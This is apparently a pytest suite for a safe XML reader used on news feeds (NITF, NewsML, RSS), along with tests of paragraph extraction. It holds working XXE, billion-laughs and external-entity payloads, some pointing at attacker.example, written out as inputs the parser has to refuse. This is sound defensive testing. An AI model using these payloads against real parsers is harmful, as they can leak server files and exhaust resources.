"""Safe XML reading: entity declarations and external entities are refused, no file
or URL is ever read, and story text comes out of XHTML/NITF as paragraphs."""
from __future__ import annotations

import pytest

from shared.errors import ParseError
from shared.formats.feeds import parse_feed
from shared.formats.newsml12 import parse_newsml12
from shared.formats.newsml_g2 import parse_newsml_g2
from shared.formats.nitf import parse_nitf
from shared.formats.xmlsafe import REFUSED, block_paragraphs, parse_html, parse_xml, root_name, xpath_of

XML_PARSERS = [parse_nitf, parse_newsml_g2, parse_newsml12, parse_feed]
ROOTS = {parse_nitf: "nitf", parse_newsml_g2: "newsItem", parse_newsml12: "NewsML", parse_feed: "rss"}


def _xxe(root: str, target: str) -> bytes:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE {root} [\n<!ENTITY e SYSTEM "{target}">\n]>\n'
            f"<{root}>&e;</{root}>").encode()


def _billion_laughs(root: str) -> bytes:
    levels = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return f'<!DOCTYPE {root} [{"".join(levels)}]><{root}>&lol9;</{root}>'.encode()


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-MARKER")
    return path


@pytest.mark.parametrize("parser", XML_PARSERS, ids=lambda p: p.__name__)
def test_xxe_is_refused_by_every_xml_parser(parser, secret):
    with pytest.raises(ParseError) as caught:
        parser(_xxe(ROOTS[parser], secret.as_uri()), provider="wire")
    assert str(caught.value).startswith(REFUSED)
    assert caught.value.where == "line 3"
    assert "TOP-SECRET-MARKER" not in str(caught.value)


@pytest.mark.parametrize("parser", XML_PARSERS, ids=lambda p: p.__name__)
def test_billion_laughs_is_refused_by_every_xml_parser(parser):
    with pytest.raises(ParseError, match="declares entities"):
        parser(_billion_laughs(ROOTS[parser]), provider="wire")


@pytest.mark.parametrize("payload", [
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><x/>',  # parameter entity
    b'<!DOCTYPE x [<!ENTITY e PUBLIC "-//A//B" "http://attacker.example/e">]><x>&e;</x>',
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "boom">]><x>&e;</x>'.encode("utf-16"),
    b'<!-- a comment first --><?pi here?>\n<!DOCTYPE x [\n<!entity e "lower case">]><x/>',
], ids=["parameter-entity", "public-entity", "utf-16", "after-comment-and-pi"])
def test_entity_declarations_are_refused_in_any_spelling(payload):
    with pytest.raises(ParseError, match="refused for safety"):
        parse_xml(payload)


def test_a_declaration_the_pre_check_cannot_see_is_refused_after_parsing():
    # The "]>" inside the comment ends the pre-check's view of the internal subset.
    payload = b'<!DOCTYPE x [<!-- ]> --><!ENTITY e "hidden">]><x>&e;</x>'
    with pytest.raises(ParseError, match="refused for safety"):
        parse_xml(payload)


def test_an_external_dtd_is_never_loaded(tmp_path, secret):
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(f'<!ENTITY leak SYSTEM "{secret.as_uri()}"><!ENTITY inline "INLINE-MARKER">')
    payload = (f'<!DOCTYPE nitf SYSTEM "{dtd.as_uri()}"><nitf><body><body.head><hedline><hl1>Head &inline;</hl1>'
               f"</hedline></body.head><body.content><p>Text &leak; here.</p></body.content></body></nitf>").encode()
    [item] = parse_nitf(payload, provider="wire")
    dumped = item.article.model_dump_json()
    assert "TOP-SECRET-MARKER" not in dumped and "INLINE-MARKER" not in dumped
    assert item.article.body_text == "Text here."


def test_a_public_doctype_without_entities_is_accepted():
    payload = (b'<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF 3.6//EN" "http://www.iptc.org/std/NITF/3.6/nitf-3-6.dtd">'
               b"<nitf><body><body.content><p>Fine.</p></body.content></body></nitf>")
    assert parse_xml(payload).tag == "nitf"


@pytest.mark.parametrize("payload, line", [
    (b"", "line 1"),
    (b"<nitf>\n<body>\n</nitf>", "line 3"),
    (b"<a>\n\n\n<b></a>", "line 4"),
    (b"not xml at all", "line 1"),
])
def test_syntax_errors_name_the_line(payload, line):
    with pytest.raises(ParseError, match="not well-formed") as caught:
        parse_xml(payload)
    assert caught.value.where == line


def test_depth_limits_stay_on():
    with pytest.raises(ParseError):
        parse_xml(b"<a>" * 5000 + b"</a>" * 5000)


def test_paragraphs_of_xhtml_skip_headline_figures_and_furniture():
    root = parse_xml(b"""<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title></head><body>
        <h1>Headline repeated</h1><figure><img src="x.jpg"/><figcaption>Caption</figcaption></figure>
        <p>First  paragraph,
           wrapped.</p><blockquote><p>Quoted one.</p><p>Quoted two.</p></blockquote>
        <ul><li>Point</li></ul><table><tr><td>Sales</td><td>12</td></tr></table><p>Line<br/>break</p></body></html>""")
    body = root.find("{*}body")
    assert block_paragraphs(body) == ["First paragraph, wrapped.", "Quoted one.", "Quoted two.", "Point",
                                      "Sales | 12", "Line break"]


def test_paragraphs_without_paragraph_elements_split_at_blocks_and_breaks():
    root = parse_html("Loose text\nstill one<br>second<div>third</div>")
    assert block_paragraphs(root) == ["Loose text still one", "second", "third"]


def test_no_break_spaces_are_kept():
    root = parse_xml("<p>25\u00a0000 deltagare</p>".encode())
    assert block_paragraphs(root) == ["25\u00a0000 deltagare"]


def test_root_name_and_xpath():
    text = '<?xml version="1.0"?><!-- c --><!DOCTYPE x [ <!ELEMENT x ANY> ]>\n<g2:newsItem xmlns:g2="urn:x"/>'
    assert root_name(text) == "newsItem"
    assert root_name("<3 hearts") is None
    root = parse_xml(b"<m><set><item/><item><x/></item></set></m>")
    assert xpath_of(root[0][1][0]) == "/m/set/item[2]/x"


def test_named_html_entities_the_dtd_would_define_keep_their_character():
    # The DTD is never loaded, so lxml keeps &eacute; as an entity node; its character is
    # still the text. A name HTML does not know stays out, as before.
    payload = (b'<!DOCTYPE nitf SYSTEM "nitf-3-3.dtd"><nitf><body><body.head><hedline><hl1>Caf&eacute; society'
               b"</hl1></hedline></body.head><body.content><p>Caf&eacute;&nbsp;prices &uuml;ber &made-up; all.</p>"
               b"</body.content></body></nitf>")
    [item] = parse_nitf(payload, provider="wire")
    assert item.article.headline == "Café society"
    assert item.article.body_text == "Café\u00a0prices über all."
    loose = parse_xml(b'<!DOCTYPE x SYSTEM "x.dtd"><x>na&iuml;ve<br/>r&eacute;sum&eacute;</x>')
    assert block_paragraphs(loose) == ["naïve", "résumé"]


def test_text_beside_paragraph_elements_is_kept_split_at_breaks():
    root = parse_html("<p>First</p>Second <b>paragraph</b><br><br>Third<p>Fourth</p>")
    assert block_paragraphs(root) == ["First", "Second paragraph", "Third", "Fourth"]
    section = parse_xml(b'<section xmlns="http://www.w3.org/1999/xhtml"><h2>Sub</h2>Intro text<p>Body.</p>'
                        b"<blockquote><p>Quoted.</p>Said the mayor.</blockquote><div>Box</div>"
                        b"Closing <em>line</em></section>")
    assert block_paragraphs(section) == ["Sub", "Intro text", "Body.", "Quoted.", "Said the mayor.", "Closing line"]


def test_preformatted_text_keeps_its_lines():
    # A results table in <pre> keeps one line per row, as the HTML reader keeps it.
    root = parse_xml(b"<body.content><p>Men's   100m final:</p><pre>\n1. Noah Lyles (USA)      9.79  \r\n"
                     b"2. Kishane Thompson (JAM) 9.79\n\n3. Fred <b>Kerley</b> (USA)      9.81\n</pre>"
                     b"<p>Next</p></body.content>")
    assert block_paragraphs(root) == ["Men's 100m final:",
                                      "1. Noah Lyles (USA)      9.79\n2. Kishane Thompson (JAM) 9.79\n"
                                      "3. Fred Kerley (USA)      9.81", "Next"]


def test_preformatted_text_alone_or_in_html_keeps_its_lines():
    assert block_paragraphs(parse_xml(b"<pre>a  b\n c\n</pre>")) == ["a  b\n c"]
    assert block_paragraphs(parse_html("<div><pre>Team   Pts\nArsenal 50</pre>Loose</div>")) == \
        ["Team   Pts\nArsenal 50", "Loose"]
    assert block_paragraphs(parse_html("<pre> \n\t\n</pre>")) == []
